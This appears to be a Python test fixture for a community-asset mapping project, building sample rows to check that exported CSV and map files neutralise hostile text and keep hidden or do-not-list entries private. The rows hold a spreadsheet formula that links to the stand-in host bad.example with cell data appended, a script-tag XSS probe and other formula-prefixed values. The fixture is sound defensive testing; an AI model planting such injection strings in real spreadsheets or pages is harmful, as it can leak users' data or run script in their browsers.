"""A project whose maps and exported files are looked at, with hostile text and secrets in its lists."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path
from typing import Any

import geopandas as gpd
import pandas as pd

from tests.project import ROOT, TONGE, write_project
from tests.publish.shielded import LOG, SHIELDED

DAY = date(2026, 11, 23)
FORMULA = '=HYPERLINK("https://bad.example/?"&A1,"click")'
HOSTILE = "<script>alert(1)</script> ${x} \"quoted\", 'single'; two\nlines \u2028 \U0001f98a &amp; \\ end"
TYPED = ("description", "address", "times", "cost", "accessibility", "source")
ROWS = [
    {"id": "open", "name": FORMULA, "asset_type": "venue", "postcode": TONGE, "visibility": "public",
     "description": HOSTILE, "cost": "-5", "times": "+44 161 496 0000", "accessibility": "@SUM(A1)"},
    {"id": "usual", "name": "Usual club", "asset_type": "venue", "latitude": "53.5777",
     "longitude": "-2.4282"},
    {"id": "ours", "name": "Zqx hidden", "asset_type": "informal", "postcode": TONGE, "visibility": "team",
     **{name: f"Zqx-{name}" for name in TYPED},
     "website": "https://zqx.example/"},
    {"id": "never", "name": "Zqy never", "asset_type": "faith", "postcode": TONGE, "do_not_list": "yes",
     **{name: f"Zqy-{name}" for name in TYPED}},
    *SHIELDED,
]  # fmt: skip
INDICATOR = """[indicators.age]
file = "age.csv"
value = "over 64"
total = "population"
title = "=Older"
source = "Census 2021"
licence = "Open Government Licence v3.0"
target = ">= 20%"
"""


def project(folder: Path) -> Path:
    """A project with an indicator: 100 older people in each ward of Bolton but the first, and 4,000 there."""
    settings = write_project(folder, ROWS, LOG, settings=INDICATOR)
    contacts = folder / "assets" / "bolton" / "contacts.csv"
    contacts.write_text("asset_id,contact_name\nusual,Zqd Someone\n")
    wards = pd.read_csv(ROOT / "boundaries" / "ward_figures.csv")
    codes = wards.loc[wards["locality_code"] == "E08000001", "ward_code"].sort_values().to_list()
    lines = [f"{code},{4000 if n == 0 else 100}\n" for n, code in enumerate(codes)]
    (folder / "age.csv").write_text("code,over 64\n" + "".join(lines))
    return settings


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def by(path: Path, key: str) -> dict[str, dict[str, str]]:
    return {row[key]: row for row in rows(path)}


def read(path: Path, **options: Any) -> Any:
    return gpd.read_file(path, engine="pyogrio", **options)
